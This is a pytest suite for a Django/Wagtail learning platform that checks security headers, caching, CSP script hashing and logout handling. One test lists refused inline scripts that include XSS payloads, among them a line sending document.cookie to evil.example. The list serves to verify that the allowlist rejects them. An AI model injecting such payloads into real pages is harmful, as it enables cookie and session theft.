"""Response hardening (issue 9, items 14, 16, 17): no caching of signed-in pages and downloads,
Permissions-Policy everywhere, a huge id is a 404 not a 500, GET cannot log staff out."""

import pytest

from lms import roles

pytestmark = pytest.mark.django_db


def test_signed_in_pages_are_private_and_not_stored(client, make_user):
    client.force_login(make_user(roles.TRAINEE))
    response = client.get("/beranda/")
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"]
    assert "public" not in response["Cache-Control"]


def test_anonymous_pages_keep_their_caching_and_get_no_cookie_vary(client):
    response = client.get("/akun/login/")
    assert "Permissions-Policy" in response
    assert "microphone=()" in response["Permissions-Policy"]
    home = client.get("/")
    assert "no-store" not in home.get("Cache-Control", "")


def test_downloads_are_not_stored(client, make_user):
    import datetime as dt

    from courses.models import Cohort  # noqa: F401 - the attendance export is a download
    from ledger.charts import default_chart
    from ledger.models import Book, BookKind

    trainee = make_user(roles.TRAINEE)
    book = Book.objects.create(
        owner=trainee,
        title="Buku",
        kind=BookKind.PRACTICE,
        chart=default_chart(),
        period_start=dt.date(2026, 1, 1),
        period_end=dt.date(2026, 12, 31),
    )
    client.force_login(trainee)
    response = client.get(f"/buku/{book.pk}/laporan/neraca-saldo/unduh/xlsx/")
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    assert "no-store" in response["Cache-Control"]


@pytest.mark.parametrize("method", ["get", "post"])
def test_an_id_too_large_for_the_database_is_not_found(client, make_user, method):
    """Issue 9, item 14: OverflowError on SQLite for /kursus/pelajaran/<huge>/selesai/."""
    client.force_login(make_user(roles.TRAINEE))
    huge = "9" * 40
    response = getattr(client, method)(f"/kursus/pelajaran/{huge}/selesai/")
    assert response.status_code in (404, 405)
    assert client.get(f"/buku/{huge}/").status_code == 404


def test_get_on_the_admin_logout_does_not_log_out(client, make_user):
    """Issue 9, item 12: a link (GET) must not log staff out."""
    officer = make_user(roles.OFFICER)
    client.force_login(officer)
    client.get("/admin/logout/")
    assert client.get("/admin/").status_code == 200
    response = client.post("/admin/logout/")
    assert response.status_code == 302
    assert client.get("/admin/").status_code == 302


def test_pages_send_a_content_security_policy_and_our_templates_have_no_inline_scripts(client):
    import re
    from pathlib import Path

    response = client.get("/akun/login/")
    policy = response["Content-Security-Policy"]
    assert "script-src 'self'" in policy and "'unsafe-inline'" not in policy.split("script-src")[1].split(";")[0]
    assert "frame-ancestors 'none'" in policy
    admin = client.get("/admin/login/", follow=False)
    assert "Content-Security-Policy" in admin and "Content-Security-Policy-Report-Only" not in admin
    root = Path(__file__).resolve().parents[2]
    offenders = []
    for path in root.glob("*/templates/**/*.html"):
        if ".venv" in path.parts:
            continue
        text = path.read_text(encoding="utf-8")
        for tag in re.findall(r"<script\b[^>]*>", text):
            if "src=" not in tag and "application/json" not in tag and "application/ld+json" not in tag:
                offenders.append((str(path.relative_to(root)), tag))
        if re.search(r"\son(click|load|submit|change|input|error|focus|blur)\s*=", text):
            offenders.append((str(path.relative_to(root)), "inline event handler"))
    for path in (root / "templates").glob("**/*.html"):
        text = path.read_text(encoding="utf-8")
        for tag in re.findall(r"<script\b[^>]*>", text):
            if "src=" not in tag and "application/json" not in tag:
                offenders.append((str(path.relative_to(root)), tag))
        if re.search(r"\son(click|load|submit|change|input|error|focus|blur)\s*=", text):
            offenders.append((str(path.relative_to(root)), "inline event handler"))
    assert offenders == []


def test_the_admin_enforces_the_policy_with_only_wagtails_own_initialisers_allowed(client, make_user):
    """Issue 9, item 17: the admins are walked under the enforced policy (tests/browser/test_admin_csp.py);
    the inline scripts Wagtail writes are allowed one by one by hash, nothing else."""
    from lms.security import admin_script_hashes

    client.force_login(make_user(roles.ADMIN))
    response = client.get("/admin/sites/new/")  # a page chooser: Wagtail writes `new PageChooser(...)` inline
    policy = response["Content-Security-Policy"]
    script_src = policy.split("script-src ")[1].split(";")[0]
    assert "'unsafe-inline'" not in script_src and "'sha256-" in script_src
    assert "frame-ancestors 'self'" in policy  # the live preview panel frames the admin's own pages
    assert response["X-Frame-Options"] == "SAMEORIGIN"
    assert "frame-ancestors 'none'" in client.get("/beranda/")["Content-Security-Policy"]
    assert client.get("/beranda/")["X-Frame-Options"] == "DENY"

    allowed = [
        'initDateChooser("id_started_at_0", {"dayOfWeekStart": 1, "format": "Y-m-d"});',
        'new PageChooser("id_root_page", {"modelNames": ["wagtailcore.page"], "modalUrl": "/admin/choose-page/"});',
        '\n        (function() {\n            var panel = new InlinePanel(JSON.parse("{\\u0022formsetPrefix\\u0022: 1}"));\n        })();\n    ',
    ]
    refused = [
        "alert(document.cookie)",
        'initDateChooser("id_x", {}); alert(1);',
        'initDateChooser("id_x", fetch("/evil"));',
        'new PageChooser("id_x", {}); new Image().src = "https://evil.example/" + document.cookie; f({});',
        '(function() { var panel = new InlinePanel(JSON.parse("x")); alert(1); })();',
    ]
    for script in allowed:
        assert len(admin_script_hashes(f"<p>x</p><script>{script}</script>")) == 1, script
    for script in refused:
        assert admin_script_hashes(f"<script>{script}</script>") == [], script
    # Only bare <script> elements count: one with attributes (a src, a type) is not an initialiser.
    assert admin_script_hashes('<script type="module">initDateChooser("id_x", {});</script>') == []


def test_a_wagtail_preview_may_be_framed_by_the_admin(rf):
    """Wagtail renders a preview through the middleware with a made-up request for the page's URL."""
    from django.http import HttpResponse

    from lms.security import SecurityHeadersMiddleware

    request = rf.get("/kursus/manajemen-koperasi/")
    request.is_preview = True
    response = HttpResponse("<p>pratinjau</p>")
    response["X-Frame-Options"] = "DENY"
    response = SecurityHeadersMiddleware(lambda r: response)(request)
    assert "frame-ancestors 'self'" in response["Content-Security-Policy"]
    assert response["X-Frame-Options"] == "SAMEORIGIN"
